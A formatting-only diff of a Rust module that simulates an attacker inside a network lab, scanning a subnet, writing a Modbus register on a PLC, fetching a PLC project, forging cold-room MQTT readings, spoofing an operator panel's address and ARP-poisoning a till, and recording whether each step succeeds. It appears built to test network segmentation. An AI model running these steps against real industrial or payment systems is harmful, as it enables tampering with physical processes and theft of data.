@@ -40,30 +40,18 @@ pub struct Step {
 impl Report {
     /// Ports that its packets arrived at.
     pub fn reached(&self) -> usize {
-        self.probes
-            .iter()
-            .filter(|verdict| verdict.outcome.passed())
-            .count()
+        self.probes.iter().filter(|verdict| verdict.outcome.passed()).count()
     }
 
     /// Ports where something served it.
     pub fn served(&self) -> usize {
-        self.probes
-            .iter()
-            .filter(|v| v.outcome == probe::Outcome::Reached)
-            .count()
+        self.probes.iter().filter(|v| v.outcome == probe::Outcome::Reached).count()
     }
 
     /// Machines that any of its packets arrived at.
     pub fn machines(&self) -> usize {
-        let passed = self
-            .probes
-            .iter()
-            .filter(|verdict| verdict.outcome.passed());
-        passed
-            .map(|verdict| &verdict.probe.to)
-            .collect::<std::collections::BTreeSet<_>>()
-            .len()
+        let passed = self.probes.iter().filter(|verdict| verdict.outcome.passed());
+        passed.map(|verdict| &verdict.probe.to).collect::<std::collections::BTreeSet<_>>().len()
     }
 
     /// Steps that succeeded.
@@ -74,12 +62,7 @@ impl Report {
 
 impl fmt::Display for Step {
     fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
-        write!(
-            f,
-            "{}: {}",
-            self.what,
-            if self.success { "succeeded" } else { "failed" }
-        )
+        write!(f, "{}: {}", self.what, if self.success { "succeeded" } else { "failed" })
     }
 }
 
@@ -87,92 +70,50 @@ impl fmt::Display for Step {
 pub fn take_over(lab: &Lab, device: &str) -> Result<Report, LabError> {
     let attacker = lab.device(device)?;
     let found = scan(attacker)?;
-    let mut probes: Vec<_> = probe::everything(lab)
-        .into_iter()
-        .filter(|probe| probe.from == attacker.name)
-        .collect();
-    let others = lab
-        .devices()
-        .iter()
-        .filter(|other| other.name != attacker.name);
+    let mut probes: Vec<_> =
+        probe::everything(lab).into_iter().filter(|probe| probe.from == attacker.name).collect();
+    let others = lab.devices().iter().filter(|other| other.name != attacker.name);
     probes.extend(others.map(|other| Probe::tcp(attacker.name, other.name, 22)));
     let probes = probe::matrix(lab, &probes)?;
-    let steps = [
-        overwrite,
-        steal,
-        charge,
-        look_into_till,
-        forge,
-        pretend,
-        poison,
-    ];
-    let steps = steps
-        .iter()
-        .map(|step| step(lab, attacker))
-        .collect::<Result<_, _>>()?;
-    Ok(Report {
-        device: device.to_owned(),
-        found,
-        probes,
-        steps,
-    })
+    let steps = [overwrite, steal, charge, look_into_till, forge, pretend, poison];
+    let steps = steps.iter().map(|step| step(lab, attacker)).collect::<Result<_, _>>()?;
+    Ok(Report { device: device.to_owned(), found, probes, steps })
 }
 
 /// Tries port 80 of every address of the subnet; who answers, is found.
 fn scan(attacker: &Device) -> Result<Vec<Ipv4Addr>, LabError> {
     let [a, b, c, _] = SUBNET.0.octets();
-    let addresses = (1..=254)
-        .map(|host| Ipv4Addr::new(a, b, c, host))
-        .filter(|ip| *ip != attacker.ip);
+    let addresses =
+        (1..=254).map(|host| Ipv4Addr::new(a, b, c, host)).filter(|ip| *ip != attacker.ip);
     let scan = || probe::answering(addresses.clone(), 80);
-    let found = attacker
-        .netns
-        .enter(scan)
-        .map_err(|error| LabError::failed("scan", error))?;
+    let found = attacker.netns.enter(scan).map_err(|error| LabError::failed("scan", error))?;
     Ok(found)
 }
 
 type Done = Result<Step, LabError>;
 
 fn step(what: &'static str, victim: &'static str, success: bool) -> Done {
-    Ok(Step {
-        what,
-        victim,
-        success,
-    })
+    Ok(Step { what, victim, success })
 }
 
 /// A task of the attacker; that it fails is what the victim's view tells.
 fn try_it<T: Send>(attacker: &Device, work: impl FnOnce() -> io::Result<T> + Send) -> bool {
-    attacker
-        .netns
-        .enter(work)
-        .is_ok_and(|result| result.is_ok())
+    attacker.netns.enter(work).is_ok_and(|result| result.is_ok())
 }
 
 fn overwrite(lab: &Lab, attacker: &Device) -> Done {
     let plc = lab.device("plc")?.ip;
     let before = lab.registers.get(5);
-    let value = before
-        .map_or(0xdead, |value| value.wrapping_add(0x1111))
-        .to_be_bytes();
+    let value = before.map_or(0xdead, |value| value.wrapping_add(0x1111)).to_be_bytes();
     let request = [6, 0, 5, value[0], value[1]];
     try_it(attacker, || client::modbus(plc, &[&request]));
-    step(
-        "overwrite a register of the PLC",
-        "plc",
-        lab.registers.get(5) != before,
-    )
+    step("overwrite a register of the PLC", "plc", lab.registers.get(5) != before)
 }
 
 fn steal(lab: &Lab, attacker: &Device) -> Done {
     let request = "GET /projects/packing-line.stu";
     let success = fetched(lab, attacker, "files", 8080, request)?;
-    step(
-        "download the PLC project from the file server",
-        "files",
-        success,
-    )
+    step("download the PLC project from the file server", "files", success)
 }
 
 fn charge(lab: &Lab, attacker: &Device) -> Done {
@@ -181,11 +122,7 @@ fn charge(lab: &Lab, attacker: &Device) -> Done {
 }
 
 fn look_into_till(lab: &Lab, attacker: &Device) -> Done {
-    step(
-        "read the till's status",
-        "till",
-        fetched(lab, attacker, "till", 5015, "GET /status")?,
-    )
+    step("read the till's status", "till", fetched(lab, attacker, "till", 5015, "GET /status")?)
 }
 
 /// The victim's own log has a request from the attacker that was not there before.
@@ -205,9 +142,7 @@ fn fetched(
             .count()
     };
     let (ip, before) = (lab.device(victim)?.ip, from_us());
-    try_it(attacker, || {
-        client::http(ip, port, request, victim, "curl/7.88.1", "", "")
-    });
+    try_it(attacker, || client::http(ip, port, request, victim, "curl/7.88.1", "", ""));
     Ok(from_us() > before)
 }
 
@@ -217,9 +152,7 @@ fn forge(lab: &Lab, attacker: &Device) -> Done {
     let shown = || lab.said(traffic::SUBSCRIBER).matches("forged").count();
     let before = shown();
     let (broker, topic) = (lab.device("broker")?.ip, "warehouse/coldroom/1/temperature");
-    try_it(attacker, || {
-        traffic::publish_to(broker, "coldroom-1", topic, payload)
-    });
+    try_it(attacker, || traffic::publish_to(broker, "coldroom-1", topic, payload));
     let deadline = wait::now() + Duration::from_millis(700);
     let success = wait::until(deadline, || shown() > before)?;
     step("publish a reading as the cold-room sensor", "hmi", success)
@@ -238,24 +171,16 @@ fn pretend(lab: &Lab, attacker: &Device) -> Done {
     wait::pass(Duration::from_millis(200))?;
     let seen = witness.stop();
     let success = port.is_some_and(|port| seen.contains(&(17, hmi, port, 502)));
-    step(
-        "reach the PLC with the operator panel's address",
-        "plc",
-        success,
-    )
+    step("reach the PLC with the operator panel's address", "plc", success)
 }
 
 /// Tells the till that the gateway's address is at the attacker's interface.
 fn poison(lab: &Lab, attacker: &Device) -> Done {
     let till = lab.device("till")?;
     // The till must know the gateway, or it ignores unasked answers.
-    let _ = till
-        .netns
-        .enter(|| client::resolve("plc.warehouse.example"));
+    let _ = till.netns.enter(|| client::resolve("plc.warehouse.example"));
     let believes = |mac: Mac| {
-        let table = till
-            .netns
-            .enter(|| fs::read_to_string("/proc/thread-self/net/arp"));
+        let table = till.netns.enter(|| fs::read_to_string("/proc/thread-self/net/arp"));
         let table = table.and_then(|text| text).unwrap_or_default();
         let row = |line: &str| {
             let mut words = line.split_whitespace();
@@ -284,11 +209,7 @@ fn poison(lab: &Lab, attacker: &Device) -> Done {
             believes(GATEWAY_MAC)
         })?;
     }
-    step(
-        "take the gateway's place for the till (ARP)",
-        "till",
-        success,
-    )
+    step("take the gateway's place for the till (ARP)", "till", success)
 }
 
 /// An unasked ARP reply (RFC 826): `ip` is at `mac`.
